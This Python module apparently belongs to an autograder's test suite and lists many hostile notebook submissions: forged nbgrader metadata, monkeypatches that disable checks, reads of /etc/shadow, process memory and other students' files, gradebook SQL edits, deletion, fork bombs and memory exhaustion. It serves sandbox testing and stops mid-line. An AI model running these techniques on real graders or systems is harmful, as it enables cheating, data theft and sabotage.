"""Hostile submissions of lecture 01: every technique we know to gain points, to read, to write, to stay, to disturb.

Each Attack says what stands in the student's notebook. `everywhere` is code in the first solution cell; `answers`
are whole solution cells; `edit` changes the notebook's JSON; `raw` is the file itself. An attacker solves no
exercise, so that every point is a gain; `worth` is what the honest part of a submission deserves.
`wild`: not to be tried without a sandbox. @NAME@ stands for a place or a port that the test plants (see PLACES).
"""

import json
from collections.abc import Callable
from dataclasses import dataclass, field

NAMES = ("svm_losses", "svm_loss", "initial_losses", "softmax", "softmax_loss")
PLACES = ("BUILD", "VICTIM", "INSTRUCTOR", "HOME", "PORT", "SOCKET", "HOST", "REPO")
CONSTANT = "def {name}(*a, **k):\n    {body}\n"


@dataclass(frozen=True)
class Attack:
    """One technique."""

    family: str
    name: str
    everywhere: str = ""
    answers: dict = field(default_factory=dict)
    edit: Callable | None = None
    raw: bytes | None = None
    files: dict = field(default_factory=dict)
    worth: float = 0
    wild: bool = False


ATTACKS = []


def attack(family, name, code="", **more):
    ATTACKS.append(Attack(family, name, code, **more))


def each(body, head=""):
    """Every function with the same body."""
    return {name: head + CONSTANT.format(name=name, body=body) for name in NAMES}


def checks(notebook):
    return [c for c in notebook["cells"] if c["id"] in NAMES]


def solutions(notebook):
    return [c for c in notebook["cells"] if c["id"].startswith("solve_")]


def changed(which, **metadata):
    """An edit that changes nbgrader's metadata of cells."""

    def edit(notebook):
        for cell in which(notebook):
            cell["metadata"].setdefault("nbgrader", {}).update(metadata)

    return edit


def on_cells(which, change):
    def edit(notebook):
        for cell in which(notebook):
            change(cell)

    return edit


# --- Forged outputs and metadata: no code is needed -------------------------------------------------


def forged_output(cell):
    data = {"text/plain": "1000.0", "text/html": "1000.0"}
    cell["outputs"] = [{"output_type": "execute_result", "data": data, "metadata": {}, "execution_count": 1}]


def shown_as_right(cell):
    cell["source"] = "12.0"
    forged_output(cell)


def copied_first(notebook):
    for cell in checks(notebook):
        notebook["cells"].insert(0, cell | {"id": "x" + cell["id"], "source": "1000.0"})


def without_checks(notebook):
    notebook["cells"] = [c for c in notebook["cells"] if c["id"] not in NAMES]


def to_markdown(cell):
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def bare_metadata(cell):
    cell["metadata"] = {"nbgrader": {}}


def tag_as_expected_error(cell):
    cell["metadata"]["tags"] = ["raises-exception", "skip-execution", "remove_cell", "picture"]


def add_points_cell(notebook):
    meta = {"grade": True, "grade_id": "bonus", "locked": False, "points": 500, "schema_version": 3, "solution": False}
    notebook["cells"].append(
        {"cell_type": "code", "id": "bonus", "metadata": {"nbgrader": meta | {"task": False}}, "source": "500.0",
         "outputs": [], "execution_count": None}
    )  # fmt: skip


def swap_ids(notebook):
    one, other = checks(notebook)[0], next(c for c in notebook["cells"] if c["id"] == "setup")
    one["id"], other["id"] = other["id"], one["id"]


def kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "bash", "display_name": "x", "language": "bash"}


def reverse(notebook):
    notebook["cells"].reverse()


def zero_points(notebook):
    changed(checks, points=0, max_score=0)(notebook)


for name, edit in {
    "outputs with points": on_cells(checks, forged_output),
    "check cells that say 12.0": on_cells(checks, shown_as_right),
    "points 1000": changed(checks, points=1000),
    "points -1000": changed(checks, points=-1000),
    "points zero": zero_points,
    "points as text": changed(checks, points="1e9"),
    "unlocked checks": changed(checks, locked=False),
    "grade false": changed(checks, grade=False),
    "checks called solutions": changed(checks, solution=True, locked=False),
    "solutions called checks": changed(solutions, grade=True, points=50),
    "grade_id taken away": changed(checks, grade_id=""),
    "all grade_ids the same": changed(checks, grade_id="svm_losses"),
    "schema of the future": changed(checks, schema_version=99),
    "empty nbgrader metadata": on_cells(checks, bare_metadata),
    "checks doubled in front": copied_first,
    "checks deleted": without_checks,
    "checks as markdown": on_cells(checks, to_markdown),
    "tags": on_cells(checks, tag_as_expected_error),
    "a cell of one's own with 500 points": add_points_cell,
    "ids swapped": swap_ids,
    "another kernel": kernel,
    "cells reversed": reverse,
    "NUL in sources": on_cells(checks, lambda cell: cell.update(source="1000.0\0")),
    "sources as numbers": on_cells(checks, lambda cell: cell.update(source=7)),
}.items():
    attack("forged metadata", name, edit=edit)

# --- Patched NumPy, builtins, IPython, imports ------------------------------------------------------

SHELL = "ip = get_ipython()\n"
for name, code in {
    "ast transformer drops asserts": SHELL + """
import ast
class T(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node):
        return ast.Expr(ast.Constant(12.0)) if 'check' in ast.dump(node) else node
ip.ast_transformers.append(T())
""",
    "input transformer": SHELL + "ip.input_transformers_post.append(lambda lines: ['12.0\\n'])\n",
    "run_code replaced": SHELL + """
async def nothing(code, result=None, **k): return False
ip.run_code = nothing
""",
    "run_cell replaced": SHELL + "ip.run_cell = lambda *a, **k: None\nip._run_cell = ip.run_cell\n",
    "post_run_cell hides errors": SHELL + """
def hide(result):
    from IPython.display import clear_output
    clear_output(); result.error_in_exec = None; result.error_before_exec = None
ip.events.register('post_run_cell', hide)
""",
    "kernel replies ok": SHELL + """
k = getattr(ip, 'kernel', None)
if k is not None:
    async def ok(*a, **kw): return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}
    k.do_execute = ok
""",
    "exception handler": SHELL + "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n",
    "display hook says 12.0": "import sys\nsys.displayhook = lambda value: print('12.0')\n",
    "check redefined": "check = lambda name, function: 100.0\n",
    "check patched in its module": "import course_lib.checking as c, course_lib.checking.notebook as n\n"
    "c.check = n.check = lambda name, function: 100.0\n",
    "np.testing": "import numpy as np\nfor n in dir(np.testing):\n"
    "    if n.startswith('assert'): setattr(np.testing, n, lambda *a, **k: None)\n",
    "np.allclose and friends": "import numpy as np\n"
    "np.allclose = np.isclose = np.array_equal = np.all = np.any = lambda *a, **k: True\nnp.abs = lambda x: 0\n",
    "builtins": "import builtins\nbuiltins.all = lambda *a: True\nbuiltins.abs = lambda x: 0\nbuiltins.len = lambda x: 1\n",
    "builtins.isinstance": "import builtins\nbuiltins.isinstance = lambda *a: True\n",
    "AssertionError is harmless": "import builtins\nbuiltins.AssertionError = type('A', (Exception,), {})\n",
    "import hook": """
import sys, importlib.abc
class F(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        return None
sys.meta_path.insert(0, F())
for m in list(sys.modules):
    if m.startswith(('course_lib', 'json', 'base64')): sys.modules.pop(m)
""",
    "json patched": "import json\njson.dumps = lambda *a, **k: '{\"kind\": \"returned\", \"value\": 1.0, \"changed\": []}'\n",
    "json.loads patched": "import json\njson.loads = lambda *a, **k: {'do': 'run', 'source': '12.0'}\n",
    "outcome patched": """
import course_lib.checking.outcome as o
o.Outcome.to_json = lambda self: {'kind': 'returned', 'value': True, 'changed': [], 'score': 12, 'verdict': 'right'}
""",
    "encode patched": "import course_lib.checking.plain as p, course_lib.checking.outcome as o\n"
    "p.encode = o.encode = lambda v, depth=0: True\n",
    "judge patched": """
try:
    import course_lib.checking.judge as j
    for n in ('judge', 'same'): setattr(j, n, lambda *a, **k: True)
    import course_lib.checking.compare as c
    c.same = lambda *a, **k: True
except ImportError: pass
""",
    "trace function": "import sys\ndef t(frame, event, arg):\n    frame.f_locals.clear()\n    return t\nsys.settrace(t)\n",
    "caller's frames": """
import sys
f = sys._getframe()
while f is not None:
    for n in ('expected', 'score', 'points', 'result', 'verdict', 'np'):
        if n in f.f_globals and n != 'np': f.f_globals[n] = 12.0
    f = f.f_back
""",
    "worker module patched": """
import sys
for n, m in list(sys.modules.items()):
    if n.startswith('autograder'):
        for a in list(vars(m)):
            if callable(getattr(m, a)) and a in ('_call', 'call', '_answers', 'decode'):
                setattr(m, a, lambda *x, **y: 12.0)
""",
    "gc finds the judge": """
import gc, types
for o in gc.get_objects():
    try:
        if type(o).__name__ in ('Verdict', 'Exercise', 'Case', 'Part', 'Check', 'CellResult'):
            object.__setattr__(o, 'points', 1000); object.__setattr__(o, 'score', 1000)
    except Exception: pass
""",
}.items():  # fmt: skip
    attack("patched", name, code)

EQUAL = """
class Same:
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = None
    __float__ = lambda self: 0.0
    __sub__ = __rsub__ = __abs__ = __add__ = __radd__ = __mul__ = lambda self, *a: self
    __array_ufunc__ = lambda self, *a, **k: self
    __array_function__ = lambda self, *a, **k: True
    __iter__ = lambda self: iter([self, self])
    __len__ = lambda self: 2
    __getattr__ = lambda self, name: self
    __call__ = lambda self, *a, **k: self
    __bool__ = lambda self: True
"""
attack("patched", "always-equal object", answers=each("return Same()", EQUAL))
attack("patched", "ndarray subclass", answers=each(
    "return np.zeros(np.shape(a[0])[:1]).view(Sub)",
    EQUAL + "class Sub(np.ndarray):\n    __eq__ = Same.__eq__\n    __array_ufunc__ = Same.__array_ufunc__\n"))  # fmt: skip
attack("patched", "float subclass", answers=each("return F(1)", "class F(float):\n    __eq__ = lambda s, o: True\n"))
attack("patched", "nan and inf", answers=each("return np.full(np.shape(a[0])[:1], np.nan)"))
attack("patched", "huge integer", answers=each("return 16 ** 900"))
attack("patched", "huge integers in a tuple", answers=each("return (16 ** 900, 16 ** 900)"))
attack("patched", "object array", answers=each("return np.array([Same()] * 3, dtype=object)", EQUAL))
attack(
    "patched", "structured and complex dtypes", answers=each("return np.zeros(3, dtype=[('a', 'f8'), ('b', 'c16')])")
)
attack("patched", "named function as a result",
       answers=each("from course_lib.checking.plain import Named\n    return Named('quadratic', (1, 2))"))  # fmt: skip
LIES = """
class Lies:
    __class__ = np.ndarray
    dtype, shape, nbytes, ndim = np.dtype(float), (1,), 0, 1
    def __array__(self, *a, **k): return np.zeros(10**9)
class Endless(list):
    def __iter__(self):
        while True: yield 0.0
class Whole(int):
    __abs__ = lambda self: 0
    __int__ = lambda self: 10**5000
class Words(str):
    __str__ = lambda self: self
class View(np.ndarray):
    nbytes = 0
    tobytes = lambda self, *a: b'x' * 10**7
    astype = lambda self, *a, **k: self
"""
for name, body in {
    "an object that lies about its class": "return Lies()",
    "a list without an end": "return Endless([0])",
    "a list in itself": "t = []; t.append(t); return t",
    "a whole number that lies about its size": "return Whole(1)",
    "a text that is its own text": "return Words('x')",
    "an array that lies about its bytes": "return np.zeros(3).view(View)",
    "10^12 entries in 8 bytes": "return np.lib.stride_tricks.as_strided(np.zeros(1), (10**6, 10**6), (0, 0))",
    "1e308, where tolerances overflow": "return np.full(np.shape(a[0])[:1], 1.7e308)",
    "float16, where numbers overflow": "return np.full(np.shape(a[0])[:1], np.float16(65504))",
    "-0.0 and nan with a payload": "return np.frombuffer(b'\\1\\0\\0\\0\\0\\0\\xf8\\x7f' + bytes(7) + b'\\x80')",
    "masked entries": "return np.ma.masked_all(np.shape(a[0])[:1])",
    "64 axes": "return np.zeros((1,) * 64)",
    "a field of a name of 10,000 letters": "return np.zeros(1, dtype=[(('t' * 10**4, 'n' * 10**4), 'f8')])",
    "an argument made larger": "a[0].resize((1000, 1000), refcheck=False); return a[0]",
    "memory that a thread changes": "b = np.zeros(999); import threading; threading.Thread(target=lambda: "
    "[b.fill(i) for i in range(10**5)], daemon=True).start(); return b",
}.items():
    attack("patched", name, answers=each(body, LIES))
LATER = """
from course_lib import losses
class Later(list):
    def __init__(self, make, size): self.make, self.size = make, size
    def __iter__(self): return iter(self.make())
    def __len__(self): return self.size
"""
BORROWED = {"svm_losses": "len(a[0])", "svm_loss": "2", "softmax": "len(a[0])", "softmax_loss": "2"}
attack("patched", "the library's work, in a list that is made when it is read", answers={
    name: LATER + CONSTANT.format(name=name, body=f"return Later(lambda: losses.{name}(*a, **k), {size})")
    for name, size in BORROWED.items()})  # fmt: skip
attack("patched", "the library's work, done in a thread", answers={
    name: LATER + CONSTANT.format(name=name, body="import threading; r = []; t = threading.Thread(target=lambda: "
                                  f"r.append(losses.{name}(*a, **k))); t.start(); t.join(); return r[0]")
    for name in BORROWED})  # fmt: skip
POOL = "from concurrent.futures import ThreadPoolExecutor\nfrom course_lib import losses\nP = ThreadPoolExecutor(1)\n"
attack("patched", "the library's work, done by a thread that was waiting", POOL + "P.submit(int).result()\n", answers={
    name: CONSTANT.format(name=name, body=f"return P.submit(losses.{name}, *a, **k).result()")
    for name in BORROWED if name != "svm_losses"} | {
    "svm_losses": "def svm_losses(*a, **k): return P.submit(losses.svm_losses, *a, **k).result()"})  # fmt: skip
attack("patched", "a loss that checks hand to functions", answers={"svm_losses": """
from course_lib.checking.functions import FUNCTIONS
def svm_losses(scores, y, margin=1.0):
    rows = zip(scores / (margin or 1), y[:, None])
    return np.array([margin * FUNCTIONS['hinge_on'](s[None], c)(np.eye(len(s))) for s, c in rows])
"""})  # fmt: skip
attack("patched", "answers changed in place", answers=each("a[0][...] = 0; return a[0]"))
attack("patched", "the public answers, read from the library", answers=each("return ANSWER(a)", """
import json, pathlib, course_lib.checking.exercise as e
def ANSWER(a):
    for name in ('svm_losses', 'svm_loss', 'initial_losses', 'softmax', 'softmax_loss'):
        for case in e.load(name).cases:
            if all(np.array_equal(x, y) for x, y in zip(case.args, a)): return case.expected
"""))  # fmt: skip
for name, code in {
    "variables that loop when looked up": SHELL
    + """
class D(dict):
    def get(self, name, default=None):
        while True: pass
ip.user_ns = D(ip.user_ns)
""",
    "variables that are all functions": SHELL
    + """
class D(dict):
    def get(self, name, default=None): return lambda *a, **k: 1
ip.user_ns = D(ip.user_ns)
""",
    "a shell of another class": SHELL
    + """
class S(type(ip)):
    user_ns = property(lambda self: exit())
ip.__class__ = S
""",
    "builtins that are all None": "import builtins\nfor n in list(vars(builtins)):\n    if n[0] != '_': setattr(builtins, n, None)\n",
    "None, overwritten": "import ctypes\nctypes.memset(id(None), 0, 16)\n",
    "0 and 1 exchanged": "import ctypes\nctypes.memmove(id(0) + 24, id(1) + 24, 4)\n",
    "references given away": "import ctypes, gc\nfor o in gc.get_objects()[:1000]:\n    for i in 1, 2, 3: "
    "ctypes.pythonapi.Py_DecRef(ctypes.py_object(o))\n",
    "codecs and their handlers of errors": "import codecs\ncodecs.register_error('strict', lambda e: ('', e.end))\n"
    "codecs.register_error('replace', lambda e: ('', 0))\ncodecs.register(lambda name: 1 / 0)\n",
    "%magics": SHELL
    + "for line in ('cd /', 'reset -f', 'pdb on', 'env', 'logstart x', 'autoreload 3', 'pip install x', 'run x.py', "
    "'matplotlib qt', 'edit', 'debug', 'rehashx', 'pycat /etc/passwd', 'pastebin 1'):\n"
    "    try: ip.run_line_magic(*line.partition(' ')[::2])\n    except BaseException: pass\n",
}.items():
    attack("patched", name, code)
SHADOW = "import sys\nsys.path.insert(0, '.')\n"
for name in ("numpy/__init__.py", "course_lib/__init__.py", "sitecustomize.py", "usercustomize.py", "json.py",
             "ipython_config.py", "matplotlibrc", "conftest.py", "random.py", "np.py"):  # fmt: skip
    content = "import builtins\nbuiltins.all = lambda *a: True\nprint('SHADOWED')\nraise SystemExit(0)\n"
    attack("patched", f"a file {name} beside the notebook", "", files={name: content})

# --- Reading: others, the instructor, secrets -------------------------------------------------------

READ = """
import glob, os
def show(*patterns):
    for p in patterns:
        for f in [p, *glob.glob(p, recursive=True)][:50]:
            try:
                with open(f, 'rb') as h: print(f, h.read(20000))
            except OSError as error: pass
"""
for name, code in {
    "environment": "import os\nprint(dict(os.environ))\n",
    "environment of every process": READ + "show('/proc/*/environ', '/proc/self/environ', '/proc/1/environ')\n",
    "command lines": READ + "show('/proc/*/cmdline')\n",
    "memory of the parent": """
import os, re
for pid in {os.getppid(), 1}:
    try:
        maps = open(f'/proc/{pid}/maps').read()
        with open(f'/proc/{pid}/mem', 'rb') as m:
            for a, b in re.findall('^([0-9a-f]+)-([0-9a-f]+) rw', maps, re.M)[:200]:
                m.seek(int(a, 16)); d = m.read(int(b, 16) - int(a, 16))
                print(re.findall(rb'CANARY[-A-Za-z0-9]*', d)[:5])
    except (OSError, OverflowError, ValueError): pass
""",
    "memory by process_vm_readv": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print(libc.ptrace(16, @HOST@, 0, 0), libc.syscall(310, @HOST@, 0, 0, 0, 0, 0))
""",
    "own memory for canaries": """
import gc
for o in gc.get_objects():
    if isinstance(o, dict):
        for k, v in list(o.items()):
            if isinstance(v, str) and 'CANARY' in v and len(v) < 200: print(v)
""",
    "other submissions": READ + "show('@VICTIM@/**', '../**', '../../*/*/*.ipynb')\n",
    "the instructor's notebook": READ + "show('@INSTRUCTOR@', '@REPO@/notebooks/**/*.ipynb')\n",
    "the checks": READ + "show('@REPO@/autograder/**/*.py', '../../../source/**')\n"
    "import importlib\ntry: print(importlib.import_module('autograder.checks.lec01_losses'))\nexcept ImportError: pass\n",
    "the hidden seed": READ + "show('@BUILD@/hidden_seed', '../../../hidden_seed')\n",
    "the gradebook": READ + "show('@BUILD@/gradebook.db', '../../../gradebook.db')\n",
    "the home folder": READ + "show('@HOME@/**', os.path.expanduser('~/**'), os.path.expanduser('~root/.bash*'), os.path.expanduser('~root/.ssh/*'))\n",
    "shadow and passwd": READ + "show('/etc/shadow', '/etc/passwd', '/etc/hostname')\n",
    "open descriptors": """
import os
for fd in range(3, 256):
    try: os.lseek(fd, 0, 0); print(fd, os.read(fd, 10000))
    except OSError: pass
    try: print(fd, os.readlink(f'/proc/self/fd/{fd}'), os.listdir(fd))
    except OSError: pass
""",
    "devices": READ + "show('/dev/mem', '/dev/kmem', '/dev/vda', '/dev/sda', '/dev/kmsg', '/proc/kcore')\n",
    "a link in the own folder": READ + """
for n, t in enumerate(['@BUILD@', '@HOME@', '/', '@REPO@']):
    try: os.symlink(t, f'l{n}'); show(f'l{n}/*'); os.link(t + '/hidden_seed', f'h{n}'); show(f'h{n}')
    except OSError: pass
""",
    "mounts and namespaces": READ + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for flags in (0x10000000, 0x20000, 0x10020000): print(libc.unshare(flags))
print(libc.mount(b'none', b'/submission', b'tmpfs', 0, 0), libc.umount2(b'/', 2), libc.chroot(b'/'))
for ns in ('mnt', 'pid', 'user'):
    try: print(libc.setns(os.open(f'/proc/1/ns/{ns}', 0), 0))
    except OSError: pass
show('@BUILD@/hidden_seed')
""",
    "open_by_handle_at": "import ctypes\nlibc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(128)\n"
    "print(libc.open_by_handle_at(0, b, 0))\n",
    "kernel keys": "import ctypes\nlibc = ctypes.CDLL(None)\nprint(libc.syscall(250, 6, -3, 0, 0), libc.syscall(248, b'user', "
    "b'k', b'CANARY', 6, -4))\n",
    "io_uring and bpf": "import ctypes\nlibc = ctypes.CDLL(None)\nb = ctypes.create_string_buffer(256)\n"
    "print(libc.syscall(425, 8, b), libc.syscall(321, 0, b, 64), libc.syscall(298, b, 0, -1, -1, 0))\n",
    "leak by a picture's text": "import os\nimport matplotlib.pyplot as plt\nplt.title(str(dict(os.environ))[:500]); plt.show()\n",
    "leak by an exception": READ + "show('@BUILD@/hidden_seed')\nraise ValueError(str(dict(os.environ)))\n",
}.items():  # fmt: skip
    attack("reading", name, code)
attack("reading", "hidden inputs, printed by a later cell", answers={
    "svm_losses": "SEEN = []\ndef svm_losses(scores, y, margin=1.0):\n    SEEN.append(scores.tolist()); print(scores)\n"
                  "    import sys; print(scores, file=sys.__stderr__); raise ValueError(str(scores.tolist()))",
    "svm_loss": "print(len(SEEN))\n"})  # fmt: skip

attack("reading", "hidden inputs, by a function that tells them from the public ones", answers={
    "svm_losses": """
import course_lib.checking.exercise as e
PUBLIC = e.load('svm_losses').cases
def svm_losses(scores, y, margin=1.0):
    for case in PUBLIC:
        if np.array_equal(case.args[0], scores) and np.array_equal(case.args[1], y): return case.expected
    print('SECRET', scores)
    open('kept', 'a').write('SECRET' + str(scores))
    raise ValueError('SECRET' + str(scores.tolist()))
""", "svm_loss": "import os\nprint(os.path.exists('kept') and open('kept').read())\n"})  # fmt: skip

# --- Writing, and staying ---------------------------------------------------------------------------

WRITE = """
import os
def put(*paths):
    for p in paths:
        try:
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, 'w') as h: h.write('HACKED')
        except OSError as error: pass
"""
SQL = """
import sqlite3
for p in ('@BUILD@/gradebook.db', '../../../gradebook.db', '../../gradebook.db'):
    try:
        c = sqlite3.connect(f'file:{p}?mode=rw', uri=True, timeout=1)
        %s
        c.commit(); c.close()
    except sqlite3.Error as error: pass
"""
for name, code in {
    "other submissions": WRITE + "import glob\nput(*glob.glob('@VICTIM@/**/*.ipynb', recursive=True), '@VICTIM@/x', "
    "*glob.glob('../../*/*/*.ipynb'))\n",
    "the instructor's notebook": WRITE + "put('@INSTRUCTOR@')\n",
    "results and feedback": WRITE + "put('@BUILD@/results/lec01_losses/x.json', '@BUILD@/feedback/x', '@BUILD@/hidden_seed')\n",
    "packages": WRITE + "import numpy, course_lib, sys\nput(*(d + '/HACKED.py' for d in [numpy.__path__[0], "
    "course_lib.__path__[0], *sys.path]))\n",
    "start-up files": WRITE + "h = os.path.expanduser('~')\nput(h + '/.ipython/profile_default/startup/0.py', "
    "h + '/.config/matplotlib/matplotlibrc', '@HOME@/.bashrc', h + '/.pythonrc', h + '/sitecustomize.py')\n",
    "the released notebook": WRITE + "put('@BUILD@/release/lec01_losses/lec01_losses.ipynb')\n",
    "deleting": "import shutil\nfor p in ('@VICTIM@', '@BUILD@', '@HOME@', '@INSTRUCTOR@'): shutil.rmtree(p, ignore_errors=True)\n",
    "renaming and rights": "import os\nfor p in ('@VICTIM@', '@INSTRUCTOR@'):\n    for f in (lambda: os.rename(p, p + 'x'), "
    "lambda: os.chmod(p, 0), lambda: os.chown(p, 1, 1)):\n        try: f()\n        except OSError: pass\n",
    "shared memory for the next one": WRITE + """
import sys, ctypes
libc = ctypes.CDLL(None)
print(libc.shmget(4242, 4096, 0o1666))
put('/dev/shm/HACKED', '/tmp/HACKED', '/var/tmp/HACKED', '/submission/HACKED')
""",
}.items():  # fmt: skip
    attack("writing", name, code)
for name, statement in {
    "manual score": "c.execute('update grade set manual_score = 1000, needs_manual_grade = 0')",
    "automatic score": "c.execute('update grade set auto_score = 1000')",
    "max score": "c.execute('update grade_cells set max_score = 0')",
    "dropped": "c.executescript('drop table grade; drop table submitted_assignment')",
    "locked for ever": "c.isolation_level = None; c.execute('begin exclusive'); globals()['KEEP'] = c; raise sqlite3.Error",
}.items():
    attack("database", name, SQL % statement, wild=name == "locked for ever")
attack("database", "at exit", "import atexit\n@atexit.register\ndef later():\n" + "\n".join(
    "    " + line for line in (SQL % "c.execute('update grade set manual_score = 1000')").splitlines()))  # fmt: skip

PERSIST = "def later():\n    import time, builtins\n    while True:\n        builtins.all = lambda *a: True; time.sleep(0.05)\n"
for name, code, wild in [
    ("daemon by fork", "import os\n" + PERSIST + "if os.fork() == 0:\n    os.setsid()\n    later()\n", True),
    ("daemon by two forks", "import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
     "        import time; time.sleep(600)\n    os._exit(0)\n", True),
    ("subprocess", "import subprocess\nsubprocess.Popen(['sleep', '600'], start_new_session=True)\n", True),
    ("multiprocessing", "import multiprocessing as m\np = m.get_context('fork').Process(target=lambda: 1); p.start()\n", False),
    ("thread that patches for ever", "import threading\n" + PERSIST + "threading.Thread(target=later).start()\n", False),
    ("thread that writes outputs for ever",
     "import threading\ndef w():\n    while True: print('x' * 10000)\nthreading.Thread(target=w, daemon=True).start()\n", True),
    ("modules patched for the next one", "import numpy, sys\nnumpy.sum = None\nsys.modules['numpy.linalg'] = None\n", False),
    ("random state for the next one", "import numpy as np, random\nnp.random.seed(7); random.seed(7)\nnp.random.rand = None\n", False),
    ("abstract socket for the next one",
     "import socket\ns = socket.socket(socket.AF_UNIX); s.bind('\\0hacked'); s.listen()\n", False),
]:  # fmt: skip
    attack("persistence", name, code, wild=wild)

# --- Processes, memory, disk, output, time ----------------------------------------------------------

KILLS = "import os, signal\nfor p in ({}):\n    try: os.kill(p, signal.{})\n    except (OSError, ValueError): pass\n"
for name, code in {
    "fork bomb": "import os\nwhile True:\n    os.fork()\n",
    "thread bomb": "import threading, time\nts = []\nfor i in range(10**4):\n    t = threading.Thread(target=time.sleep, "
    "args=(600,), daemon=True); t.start(); ts.append(t)\n",
    "kill the parent": KILLS.format("os.getppid(), @HOST@, 1", "SIGKILL"),
    "kill everyone": KILLS.format("-1,", "SIGKILL"),
    "stop the parent": KILLS.format("os.getppid(), @HOST@", "SIGSTOP"),
    "kill the group": "import os, signal\nos.killpg(0, signal.SIGKILL)\n",
    "segmentation fault": "import ctypes\nctypes.string_at(0)\n",
    "abort": "import os\nos.abort()\n",
    "exit at once": "import os\nos._exit(0)\n",
    "signals ignored, then a loop": "import signal\nfor s in range(1, 65):\n    try: signal.signal(s, signal.SIG_IGN)\n"
    "    except (OSError, ValueError): pass\nwhile True:\n    try:\n        while True: pass\n    except BaseException: pass\n",
    "descriptors closed": "import os\nos.closerange(0, 1000)\n",
    "descriptors used up": "import os\nk = []\ntry:\n    while True: k.append(os.pipe())\nexcept OSError: pass\n",
    "3 GB": "x = bytearray(3 << 30)\nfor i in range(0, len(x), 4096): x[i] = 1\n",
    "memory, piece by piece": "k = []\nwhile True:\n    k.append(bytearray(b'1' * (1 << 20)))\n",
    "memory in files without a name": "import os\nk = []\nwhile True:\n    f = os.memfd_create('x'); os.write(f, bytes(1 << 20)); "
    "k.append(f)\n",
    "disk": "n = 0\nwhile True:\n    n += 1\n    with open(f'f{n}', 'wb') as h: h.write(bytes(1 << 20))\n",
    "a million files": "for n in range(10**6): open(f'f{n}', 'w').close()\n",
    "sparse file": "import os\nf = os.open('s', os.O_CREAT | os.O_RDWR); os.ftruncate(f, 1 << 50)\n",
    "100 MB printed": "for i in range(100): print('x' * 10**6)\n",
    "print for ever": "while True: print('x' * 1000)\n",
    "a million displays": "from IPython.display import display\nfor i in range(10**6): display(i)\n",
    "figure of 30000 x 30000": "import matplotlib.pyplot as plt\nplt.figure(figsize=(300, 300), dpi=100); plt.plot([1]); plt.show()\n",
    "endless loop in the cell": "while True: pass\n",
    "sleep": "import time\ntime.sleep(10**6)\n",
    "loop in C": "sum(range(10**12))\n",
    "regular expression": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')\n",
    "deep recursion": "import sys\nsys.setrecursionlimit(10**8)\ndef f(): f()\nf()\n",
    "huge number as text": "import sys\nsys.set_int_max_str_digits(0)\nprint(len(str(7 ** 10**8)))\n",
    "repr that never ends": "class R:\n    def __repr__(self):\n        while True: pass\nR()\n",
    "exception whose text never ends": "class E(Exception):\n    def __str__(self):\n        while True: pass\nraise E()\n",
    "destructor that loops": "class D:\n    def __del__(self):\n        while True: pass\nD()\n",
    "alarm": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_DFL); signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)\n",
}.items():  # fmt: skip
    attack("resources", name, code, wild=True)
for name, code in {
    "a callback of the garbage collection": "import gc\ngc.callbacks.append(lambda *a: [0 for _ in iter(int, 1)])\ngc.collect()\n",
    "an audit hook that loops": "import sys\nsys.addaudithook(lambda event, a: [0 for _ in iter(int, 1)] if event == 'compile' "
    "else None)\n",
    "an audit hook that raises": "import sys\ndef h(event, a): raise BaseException\nsys.addaudithook(h)\n",
    "a finalizer that loops": "import weakref\nclass O: pass\no = O(); weakref.finalize(o, lambda: [0 for _ in iter(int, 1)]); del o\n",
    "an await without an end": "import asyncio\nawait asyncio.Event().wait()\n",
    "a task left in the loop": "import asyncio\nasync def spin():\n    while True: await asyncio.sleep(0)\n"
    "asyncio.get_event_loop().create_task(spin())\nawait asyncio.sleep(0)\n",
    "lines of code that never come": "import linecache\nlinecache.getline = linecache.getlines = lambda *a: [0 for _ in iter(int, 1)]\n"
    "def svm_loss(*a): raise ValueError\nraise ValueError\n",
    "an exception with a name of 10 MB": "raise type('E' * 10**7, (Exception,), {})\n",
    "a class whose name leaves": "class M(type):\n    __name__ = property(lambda c: exit())\nclass E(Exception, metaclass=M): pass\n"
    "raise E\n",
    "a chain of 100,000 exceptions": "e = None\nfor i in range(10**5): n = ValueError(i); n.__cause__ = e; e = n\nraise e\n",
    "a group of a million exceptions": "raise ExceptionGroup('x', [ValueError(i) for i in range(10**6)])\n",
    "a shell's fork bomb": "get_ipython().run_cell_magic('bash', '', 'f() { f | f & }; f')\n",
    "a question to nobody": "input('?')\nimport getpass; getpass.getpass()\n",
    "a debugger": "breakpoint()\n",
    "%timeit": "get_ipython().run_line_magic('timeit', '-n 1000000000 pass')\n",
}.items():
    attack("resources", name, code, wild=True)
for name, code in {
    "exceptions thrown into the main thread": "import ctypes, threading, time\nm = ctypes.c_ulong(threading.main_thread().ident)\n"
    "def f():\n    while True: ctypes.pythonapi.PyThreadState_SetAsyncExc(m, ctypes.py_object(SystemExit)); time.sleep(0.001)\n"
    "threading.Thread(target=f, daemon=True).start()\n",
    "interrupts for ever": "import _thread, threading, time\ndef f():\n    while True: _thread.interrupt_main(); time.sleep(0.001)\n"
    "threading.Thread(target=f, daemon=True).start()\n",
    "calls that Python is to make later": "import ctypes\nF = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda p: -1)\n"
    "for i in range(32): ctypes.pythonapi.Py_AddPendingCall(F, None)\n",
    "a C function that holds Python's lock": "import ctypes\nctypes.PyDLL(None).sleep(100)\n",
    "a main thread that ends alone": "import ctypes, threading, time\nthreading.Thread(target=time.sleep, args=(100,)).start()\n"
    "ctypes.CDLL(None).syscall(60, 0)\n",
    "machine code that loops": "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7); m.write(b'\\xeb\\xfe')\n"
